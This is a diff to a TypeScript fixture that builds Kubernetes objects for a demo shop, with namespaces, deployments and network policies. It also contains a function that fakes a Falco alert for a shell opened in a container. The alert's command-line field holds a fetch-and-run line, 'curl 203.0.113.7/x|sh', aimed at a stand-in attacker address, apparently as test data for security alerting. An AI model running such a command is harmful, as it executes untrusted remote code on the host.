@@ -2,7 +2,13 @@
 
 const namespaces = ['storefront', 'checkout', 'catalogue'] as const;
 
-const workload = (namespace: string, name: string, image: string, replicas: number) => ({
+export const workload = (
+  namespace: string,
+  name: string,
+  image: string,
+  replicas: number,
+  hostNetwork = false,
+) => ({
   apiVersion: 'apps/v1',
   kind: 'Deployment',
   metadata: { name, namespace, labels: { app: name } },
@@ -11,7 +17,7 @@ const workload = (namespace: string, name: string, image: string, replicas: numb
     selector: { matchLabels: { app: name } },
     template: {
       metadata: { labels: { app: name } },
-      spec: { containers: [{ name, image, ports: [{ containerPort: 8080, name: 'http' }] }] },
+      spec: { hostNetwork, containers: [{ name, image, ports: [{ containerPort: 8080, name: 'http' }] }] },
     },
   },
 });
@@ -23,7 +29,7 @@ const service = (namespace: string, name: string) => ({
   spec: { selector: { app: name }, ports: [{ name: 'http', port: 80, targetPort: 'http' }] },
 });
 
-const policy = (
+export const policy = (
   namespace: string,
   name: string,
   spec: object,
@@ -86,7 +92,7 @@ export const shop = {
 export const victim = 'storefront';
 
 /** What Falco posts (json_output) when somebody opens a shell in a container of the shop. `evt.time` exceeds 2^53. */
-export function falcoAlert(pod: string, at: Date): string {
+export function falcoAlert(pod: string, at: Date, namespace: string = victim): string {
   const time = at.toISOString().replace('Z', '000000Z');
   const nanoseconds = `${at.getTime()}123456`;
   const fields = [
@@ -95,14 +101,14 @@ export function falcoAlert(pod: string, at: Date): string {
     `"container.image.tag":"1.4.2"`,
     `"container.name":"web"`,
     `"evt.time":${nanoseconds}`,
-    `"k8s.ns.name":"${victim}"`,
+    `"k8s.ns.name":"${namespace}"`,
     `"k8s.pod.name":"${pod}"`,
     `"proc.cmdline":"sh -c curl 203.0.113.7/x|sh"`,
     `"proc.pname":"node"`,
     `"proc.tty":34816,"user.name":"root","user.uid":0`,
   ];
   return (
-    `{"hostname":"node-1","output":"A shell was spawned in a container with an attached terminal (user=root k8s.ns=${victim} k8s.pod=${pod} container=web)",` +
+    `{"hostname":"node-1","output":"A shell was spawned in a container with an attached terminal (user=root k8s.ns=${namespace} k8s.pod=${pod} container=web)",` +
     `"output_fields":{${fields.join(',')}},"priority":"Critical","rule":"Terminal shell in container","source":"syscall",` +
     `"tags":["T1059","container","mitre_execution","shell"],"time":"${time}"}`
   );
